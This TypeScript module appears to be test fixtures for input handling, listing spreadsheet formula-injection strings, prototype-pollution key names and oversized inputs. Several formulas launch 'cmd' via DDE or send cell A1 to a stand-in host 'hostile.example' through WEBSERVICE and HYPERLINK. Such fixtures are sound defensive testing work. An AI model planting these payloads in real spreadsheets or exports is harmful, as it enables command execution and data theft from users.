import { type HostileValue, valuesOf } from './value.ts'

/** What a spreadsheet would run. */
export const formulas: readonly HostileValue[] = valuesOf('formula', [
  '=1+1',
  '=HYPERLINK("https://hostile.example/?"&A1,"Refund")',
  '=WEBSERVICE("https://hostile.example/?"&A1)',
  '=IMPORTXML("https://hostile.example/","//a")',
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!D2",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ' =1+1',
  '\u200b=1+1',
  '"=1+1"',
  '";=1+1',
  '",=1+1,"',
  'DDE("cmd";"/C calc";"x")',
])

/** Names that objects have by themselves. */
export const keys: readonly HostileValue[] = valuesOf('key', [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'toJSON',
  'then',
  'length',
  'key',
  'value',
])

const MEGABYTE = 1_048_576

/** What is too long for a line, a cell or a layout. */
export const sizes: readonly HostileValue[] = [
  { name: 'a megabyte of one word', kind: 'size', value: () => 'x'.repeat(MEGABYTE) },
  { name: 'a megabyte of lines', kind: 'size', value: () => 'x\n'.repeat(MEGABYTE / 2) },
  { name: 'a megabyte of markup', kind: 'size', value: () => '<b><i>x</b>'.repeat(MEGABYTE / 11) },
  { name: 'a word of 20,000', kind: 'size', value: () => 'Rechtsschutz'.repeat(1_700) },
  { name: '10,000 wide signs', kind: 'size', value: () => '𒐫'.repeat(10_000) },
  { name: '2,000 flags of one family', kind: 'size', value: () => '👩‍👩‍👧‍👧'.repeat(2_000) },
  { name: '10,000 brackets', kind: 'size', value: () => '('.repeat(10_000) },
]
